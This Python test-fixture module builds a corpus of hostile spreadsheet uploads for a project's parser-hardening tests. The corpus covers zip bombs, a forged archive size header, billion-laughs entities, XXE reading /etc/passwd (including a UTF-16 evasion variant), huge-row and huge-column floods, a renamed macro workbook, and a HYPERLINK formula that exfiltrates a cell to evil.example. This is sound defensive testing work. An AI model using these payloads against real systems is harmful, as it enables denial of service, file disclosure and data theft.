"""Hostile tracking sheets, built by code (nothing binary in git): each builder returns the bytes of a
small .xlsx that asked, before issue 11, for gigabytes of memory or for ever (or that is dangerous:
entities, macros). Used by tests/hours/test_hostile_uploads.py (tiny sizes) and bench/bench_hostile.py
(the sizes measured in issue 11). EXPECTED: the exact refusal of each, with the default limits."""

import io
import re
import struct
import zipfile

SHEET = "xl/worksheets/sheet1.xml"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def base():
    """A valid one-row tracking sheet (openpyxl, inline cells: no shared strings)."""
    from tests.hours.suivi import line, workbook

    return workbook([line()])


def rewrite(data, parts, compression=zipfile.ZIP_DEFLATED):
    """The archive with some parts replaced ({name: bytes or str}) or removed (None), others added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for item in source.infolist():
            if item.filename in parts:
                content = parts[item.filename]
                if content is not None:
                    target.writestr(item.filename, content)
            else:
                target.writestr(item, source.read(item.filename))
        for name, content in parts.items():
            if name not in source.namelist() and content is not None:
                target.writestr(name, content)
    return out.getvalue()


def sheet_xml(data=None):
    return zipfile.ZipFile(io.BytesIO(data or base())).read(SHEET).decode()


def with_rows(extra_rows, data=None, prolog=""):
    """The base sheet with XML text inserted before </sheetData> (and a prolog before the root)."""
    data = data or base()
    xml = sheet_xml(data)
    xml = xml.replace("</sheetData>", extra_rows + "</sheetData>", 1)
    if prolog:
        xml = re.sub(r"^(<\?xml[^>]*\?>)?", lambda m: (m[0] or "") + prolog, xml, count=1)
    return rewrite(data, {SHEET: xml})


# --------------------------------------------------------------------------------------------------
# The corpus


def zip_bomb(megabytes=8):
    """The sheet padded with `megabytes` MB of spaces (valid XML) that deflate ~1000 to 1."""
    return with_rows(" " * (megabytes * 1024 * 1024))


def declared_bomb(gigabytes=4):
    """An archive whose directory declares a sheet of `gigabytes` GB once inflated (never inflated)."""
    data = bytearray(base())
    name = SHEET.encode()
    at = 0
    while True:
        at = data.find(b"PK\x01\x02", at)
        if at < 0:
            raise AssertionError("no central entry for the sheet")
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if bytes(data[at + 46 : at + 46 + name_length]) == name:
            break
        at += 4
    struct.pack_into("<L", data, at + 24, min(gigabytes * 1024**3, 0xFFFFFFFE))
    return bytes(data)


def billion_laughs(levels=9):
    """Nested entities: 10^levels « lol » once expanded, referenced from a cell."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, levels + 1)
    ]
    prolog = f"<!DOCTYPE worksheet [{''.join(entities)}]>"
    cell = f'<row r="3"><c r="A3" t="inlineStr"><is><t>&lol{levels};</t></is></c></row>'
    return with_rows(cell, prolog=prolog)


def xxe(target="file:///etc/passwd"):
    """An external entity, read into a cell if the parser resolved it."""
    prolog = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{target}">]>'
    return with_rows('<row r="3"><c r="A3" t="inlineStr"><is><t>&xxe;</t></is></c></row>', prolog=prolog)


def xxe_utf16():
    """The same external entity in a sheet encoded in UTF-16 (a byte search for DOCTYPE misses it)."""
    data = base()
    xml = sheet_xml(data).replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("utf-8", "UTF-16")
    xml = re.sub(
        r"^(<\?xml[^>]*\?>)?",
        lambda m: (m[0] or "") + '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        xml,
        count=1,
    )
    return rewrite(data, {SHEET: xml.encode("utf-16")})


def huge_row(number=10**12):
    """A row numbered 10¹² with a value (the reader used to yield every empty row before it)."""
    return with_rows(f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>x</t></is></c></row>')


def huge_column(letters="ZZZZZZ"):
    """A cell in column ZZZZZZ (321 272 406): the reader used to allocate a list that wide."""
    return with_rows(f'<row r="3"><c r="{letters}3" t="inlineStr"><is><t>x</t></is></c></row>')


def empty_row_flood(rows=1_048_576):
    """`rows` empty <row> elements after the data (Excel's last row by default)."""
    return with_rows("".join(f'<row r="{n}"/>' for n in range(3, rows + 1)))


def huge_shared_strings(count=600_000, announced=None):
    """A shared-strings table of `count` distinct strings, none used by a cell; `announced`: the count
    the table declares (None: it declares none, as a liar would)."""
    items = "".join(f"<si><t>{n}</t></si>" for n in range(count))
    declared = "" if announced is None else f' count="{announced}" uniqueCount="{announced}"'
    sst = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}"{declared}>'
    data = base()
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").decode()
    override = (
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sharedStrings+xml"/>'
    )
    types = types.replace("</Types>", override + "</Types>")
    return rewrite(data, {"xl/sharedStrings.xml": sst + items + "</sst>", "[Content_Types].xml": types})


def macro_renamed():
    """An .xlsm (macro-enabled workbook type, vbaProject.bin) saved under an .xlsx name."""
    data = base()
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").decode()
    types = types.replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # an (empty) OLE container, as Excel writes
    return rewrite(data, {"[Content_Types].xml": types, "xl/vbaProject.bin": vba})


def not_a_zip():
    return b"\x89PNG\r\n\x1a\n" + bytes(64)


def truncated_zip():
    data = base()
    return data[: len(data) // 2]


def invalid_xml():
    """A sheet whose XML is broken in its rows (the message used to end with « (ParseError) »)."""
    return with_rows('<row r="3"><c r="A3"><v>1</v></row>')


def with_formula_and_error():
    """A refused file (hours over 744) whose cells hold formulas, one an exfiltrating HYPERLINK."""
    from openpyxl import Workbook

    from tests.hours.suivi import TITLES, line

    row = line(hours=800)
    book = Workbook()
    sheet = book.active
    sheet.title = "Heures"
    sheet.append(TITLES)
    sheet.append([row.get(t) for t in TITLES])
    sheet["AB2"] = '=HYPERLINK("http://evil.example/?"&L2,"clic")'
    sheet["AC2"] = "=1+2"
    notes = book.create_sheet("Notes")
    notes.append(["=SUM(1,2)", "-texte", "normal"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# name -> (the builder at test size, the builder at the size measured in issue 11)
CORPUS = {
    "zip_bomb": (zip_bomb, lambda: zip_bomb(400)),
    "declared_bomb": (declared_bomb, declared_bomb),
    "billion_laughs": (billion_laughs, billion_laughs),
    "xxe": (xxe, xxe),
    "xxe_utf16": (xxe_utf16, xxe_utf16),
    "huge_row": (huge_row, huge_row),
    "huge_column": (huge_column, huge_column),
    "empty_row_flood": (lambda: empty_row_flood(1_100), empty_row_flood),
    "huge_shared_strings": (lambda: huge_shared_strings(1_100), huge_shared_strings),
    "announced_shared_strings": (
        lambda: huge_shared_strings(10, announced=10**9),
        lambda: huge_shared_strings(10, announced=10**9),
    ),
    "macro_renamed": (macro_renamed, macro_renamed),
    "not_a_zip": (not_a_zip, not_a_zip),
    "truncated_zip": (truncated_zip, truncated_zip),
    "invalid_xml": (invalid_xml, invalid_xml),
}
